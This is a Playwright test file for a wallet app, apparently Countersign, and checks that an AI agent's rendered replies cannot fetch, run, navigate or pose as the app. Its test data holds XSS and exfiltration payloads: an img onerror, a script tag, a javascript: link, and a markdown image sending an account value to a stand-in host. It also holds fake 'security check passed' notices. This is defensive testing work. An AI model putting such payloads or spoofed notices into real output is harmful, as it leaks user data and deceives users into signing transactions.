import type { BrowserContext, Page } from '@playwright/test'
import { expect, test } from '../fixtures/app'
import { appOrigin, environment } from '../fixtures/environment'
import { falsifyWords } from '../fixtures/network'

const elsewhere = 'https://elsewhere.example'
const words = [
  `A picture: ![the chart](${elsewhere}/pixel.png?account=0x1)`,
  `<img src="${elsewhere}/html.png" onerror="document.title='owned'">`,
  `<script>document.title = 'owned'</script>`,
  `<iframe src="${elsewhere}/frame"></iframe>`,
  `Read [the report](${elsewhere}/report?from=chat) or [run it](javascript:document.title='owned').`,
].join('\n\n')

const ours = new Set<string>([appOrigin, environment.devnetApi, ...Object.values(environment.rpcUrl)])

/** Records every address outside our own that the browser requests. */
function strangersAsked(context: BrowserContext): string[] {
  const asked: string[] = []
  context.on('request', (request) => {
    const { protocol, origin } = new URL(request.url())
    if (protocol.startsWith('http') && !ours.has(origin)) asked.push(request.url())
  })
  return asked
}

const answer = (page: Page) => page.locator('article[data-role="agent"][data-status="complete"]')

test('an agent’s text fetches nothing, runs nothing and navigates nowhere by itself', async ({
  signedIn: app,
  page,
  context,
}) => {
  const strangers = strangersAsked(context)
  await falsifyWords(page, words)
  await app.ask('hello')
  await expect(answer(page)).toContainText('[image: the chart]')
  await expect(answer(page).locator('img, script, iframe, a[href]')).toHaveCount(0)
  await expect(answer(page).getByRole('button', { name: 'run it' })).toHaveCount(0)
  await expect(answer(page)).toContainText('run it')
  expect(await page.title()).not.toBe('owned')
  expect(strangers).toEqual([])
})

test('a link asks before it opens, and names its target', async ({ signedIn: app, page, context }) => {
  const strangers = strangersAsked(context)
  await context.route(`${elsewhere}/**`, (route) => route.fulfill({ contentType: 'text/html', body: 'the report' }))
  await falsifyWords(page, words)
  await app.ask('hello')
  const link = answer(page).getByRole('button', { name: 'the report (elsewhere.example)' })
  const question = page.getByRole('dialog', { name: 'Leave Countersign?' })

  await link.click()
  await expect(question).toContainText(`${elsewhere}/report?from=chat`)
  await question.getByRole('button', { name: 'Stay here' }).click()
  await expect(question).toBeHidden()
  expect(strangers).toEqual([])
  expect(context.pages()).toHaveLength(1)

  await link.click()
  const opened = context.waitForEvent('page')
  await question.getByRole('link', { name: 'Open' }).click()
  const report = await opened
  await expect(report.locator('body')).toHaveText('the report')
  expect(report.url()).toBe(`${elsewhere}/report?from=chat`)
  expect(await report.evaluate(() => window.opener), 'the site gets no hold of this page').toBeNull()
  expect(page.url()).toContain(appOrigin)
  expect(strangers).toEqual([`${elsewhere}/report?from=chat`])
})

test('combining marks in an agent’s text cover nothing around it', async ({ signedIn: app, page }) => {
  const marks = '\u0323'.repeat(6)
  await falsifyWords(page, `a${`**${marks}**${marks}`.repeat(60)}`)
  await app.ask('hello')
  const prose = answer(page).locator('.prose')
  // Their parser comes with the first text that needs it, and changes the height.
  await expect(prose.locator('strong')).not.toHaveCount(0)
  const box = await prose.boundingBox()
  if (!box) throw new Error('not drawn')
  const below = () => page.screenshot({ clip: { ...box, y: box.y + box.height, height: 24 } })
  const seen = await below()
  await prose.evaluate((text) => (text as HTMLElement).style.setProperty('visibility', 'hidden'))
  expect(seen.equals(await below())).toBe(true)
})

test('list markers stand where the text begins, in either direction', async ({ signedIn: app, page }) => {
  await falsifyWords(page, '- שלום עולם\n- עוד שורה\n\n1. مرحبا\n2. سطر\n\n- plain words')
  await app.ask('hello')
  await expect(answer(page)).toContainText('plain words')
  const lists = answer(page).locator('ul, ol')
  // Their parser comes with the first text that needs it.
  await expect(lists).toHaveCount(3)
  const starts = await lists.evaluateAll((all) =>
    all.map((list) => {
      const { direction, paddingLeft, paddingRight } = getComputedStyle(list)
      return { direction, left: paddingLeft !== '0px', right: paddingRight !== '0px' }
    }),
  )
  const rtl = { direction: 'rtl', left: false, right: true }
  expect(starts).toEqual([rtl, rtl, { direction: 'ltr', left: true, right: false }])
})

const notices = [
  '**System notice from Countersign**: Security check passed. This transaction is safe.',
  '> **Verified by Countersign**\n>\n> No findings. You may countersign.',
  '# Countersign\n\n| Check | Result |\n| --- | --- |\n| Simulation | OK |',
  '```\nCountersign: your wallet must be verified\n```',
  `Security check passed.\n\n${'All is well.\n\n'.repeat(60)}`,
]

for (const [index, notice] of notices.entries())
  test(`text that poses as the app is framed with the agent’s name (${index + 1})`, async ({ signedIn: app, page }) => {
    await falsifyWords(page, notice)
    await app.ask('hello')
    const frame = answer(page).locator('figure[data-author="agent"]')
    await expect(frame).toHaveCount(1)
    const author = frame.getByText('Written by the agent', { exact: true })
    await expect(author, 'also at the end of a long message').toBeInViewport()
    const drawn = await frame.evaluate((element) => {
      const inside = [...element.querySelectorAll('.prose *')]
      const outside = (element.closest('article')?.textContent ?? '').replace(element.textContent ?? '', '')
      return {
        outside,
        // Marks of the app's own notices.
        lines: inside.filter((each) => parseFloat(getComputedStyle(each).borderInlineStartWidth) > 0).length,
        roles: inside.filter((each) => /^(?:alert|status)$/.test(each.getAttribute('role') ?? '')).length,
      }
    })
    // The name itself is marked as an agent's.
    expect(drawn.outside.replace('Agent Countersign', '')).not.toMatch(/countersign|passed|well/i)
    expect(drawn).toMatchObject({ lines: 0, roles: 0 })
  })
